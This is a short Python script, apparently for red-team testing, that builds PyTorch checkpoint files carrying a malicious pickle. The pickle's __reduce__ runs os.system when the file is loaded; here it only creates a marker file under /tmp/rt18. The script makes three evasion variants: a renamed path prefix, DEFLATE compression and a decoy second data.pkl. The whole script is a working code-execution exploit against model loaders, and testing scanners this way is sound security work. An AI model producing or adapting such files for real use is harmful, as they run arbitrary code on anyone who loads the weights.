import torch, zipfile, pickle, os
class R:
    def __init__(s,t): s.t=t
    def __reduce__(s): return (os.system, ("touch /tmp/rt18/pwned_"+s.t,))
torch.save({"w": torch.ones(2)}, "base_t.pt")
zb = zipfile.ZipFile("base_t.pt")
def build(out, tag, rename=lambda n: n, comp=zipfile.ZIP_STORED, extra=()):
    with zipfile.ZipFile(out,"w") as z:
        for i in zb.infolist():
            d = zb.read(i.filename)
            if i.filename.endswith("/data.pkl"): d = pickle.dumps(R(tag), protocol=2)
            z.writestr(rename(i.filename), d, compress_type=comp)
        for n,d in extra: z.writestr(n,d)
build("t_prefix.pt","t_prefix", rename=lambda n: n.replace("base_t/","x y/"))
build("t_deflate.pt","t_deflate", comp=zipfile.ZIP_DEFLATED)
build("t_twopkl.pt","t_twopkl", extra=[("zzz/data.pkl", pickle.dumps({"ok":1}))])
